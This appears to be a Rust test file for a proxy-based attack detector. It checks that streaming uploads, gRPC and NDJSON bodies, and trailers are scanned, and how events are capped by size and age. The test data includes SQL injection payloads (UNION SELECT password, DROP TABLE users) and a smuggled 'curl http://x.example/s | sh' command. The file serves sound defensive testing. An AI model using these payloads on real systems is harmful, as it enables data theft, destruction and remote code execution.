//! Does a request that goes on after its answer began count while it lasts?

use super::*;

const CHUNK: usize = 16 * 1024;

/// A stream whose answer has begun; a worker that takes its chunks, as the filter does.
struct Upload<'a> {
    proxy: Proxy<'a>,
    stream: Stream,
}

impl<'a> Upload<'a> {
    fn begin(cells: &'a Memory, options: &str, content_type: &str) -> Self {
        let mut proxy = Proxy::new(cells, options);
        let mut stream = Stream::default();
        let head = [(":method", "POST"), (":path", "/chat"), ("x-user-id", "mallory"), ("content-type", content_type)];
        proxy.on(0, Input::Stream(&mut stream, Part::Head(Head::new(head.into_iter().collect()))));
        Self { proxy, stream }
    }

    fn push(&mut self, bytes: &[u8]) {
        self.proxy.on(0, Input::Stream(&mut self.stream, Part::Chunk(bytes)));
        if self.proxy.workers[0].wants_mark(&self.stream, Mark::Ongoing) {
            self.proxy.on(0, Input::Stream(&mut self.stream, Part::Mark(Mark::Ongoing, &known())));
        }
    }

    /// Harmless text of about so many bytes.
    fn fill(&mut self, bytes: usize) {
        for _ in 0..bytes / CHUNK {
            self.push(&b"all quiet here\n".repeat(CHUNK / 15));
        }
    }

    fn events(&self) -> u64 {
        self.proxy.count(Counter::Events)
    }
}

#[test]
fn traffic_is_weighed_by_its_size_and_by_its_age() {
    for (content_type, message) in [
        ("text/plain", &b"' UNION SELECT password FROM users--\n"[..]),
        ("application/grpc", b"\0\0\0\0\x27\x0a\x25' UNION SELECT password FROM users--\n"),
        ("application/x-ndjson", b"{\"say\":\"' UNION SELECT password FROM users--\"}\n"),
    ] {
        let cells = Memory::default();
        let mut upload = Upload::begin(&cells, "{}", content_type);
        upload.push(message);
        assert_eq!(upload.events(), 0, "{content_type}: nothing is due");
        upload.proxy.now += 5000;
        upload.push(b"\n");
        assert_eq!(upload.events(), 1, "{content_type}: by its age");

        let cells = Memory::default();
        let mut upload = Upload::begin(&cells, "{}", content_type);
        upload.push(message);
        upload.fill(5 * CHUNK);
        assert_eq!(upload.events(), 1, "{content_type}: by its size");
    }
}

#[test]
fn each_stretch_has_a_cap_of_its_own() {
    let cells = Memory::default();
    let mut upload = Upload::begin(&cells, &with(CHANNELS), "text/plain");
    for attack in ["' UNION SELECT password FROM users--\n", "1; DROP TABLE users; --\n", "' OR 'a'='a' --\n"] {
        upload.push(attack.as_bytes());
    }
    upload.proxy.now += 5000;
    upload.push(b"\n");
    assert_eq!(upload.events(), 1, "one event of a category");
    upload.fill(5 * CHUNK);
    for attack in ["' UNION ALL SELECT name, 1 FROM admins--\n", "; curl http://x.example/s | sh\n"] {
        upload.push(attack.as_bytes());
        upload.fill(5 * CHUNK);
    }
    assert_eq!(upload.proxy.count(Counter::Opened), 1, "it lasts: {:?}", upload.proxy.counts);
}

#[test]
fn the_limit_of_a_body_is_one_of_each_stretch() {
    let cells = Memory::default();
    let mut upload = Upload::begin(&cells, r#"{"detect": {"body_limit": 131072}}"#, "text/plain");
    upload.fill(20 * CHUNK);
    upload.push(b"' UNION SELECT password FROM users--\n");
    upload.fill(5 * CHUNK);
    assert_eq!(upload.events(), 1);
}

#[test]
fn what_follows_the_body_is_looked_at() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, "{}");
    let mut stream = Stream::default();
    let head = [(":method", "POST"), (":path", "/"), ("x-user-id", "mallory")];
    proxy.on(0, Input::Stream(&mut stream, Part::Head(Head::new(head.into_iter().collect()))));
    let trailers = [("x-sum", "' UNION SELECT password FROM users--")].into_iter().collect();
    proxy.on(0, Input::Stream(&mut stream, Part::Trailers(&trailers)));
    assert!(proxy.workers[0].wants_mark(&stream, Mark::Complete));
    proxy.on(0, Input::Stream(&mut stream, Part::Mark(Mark::Complete, &known())));
    assert_eq!(proxy.count(Counter::Events), 1);
}
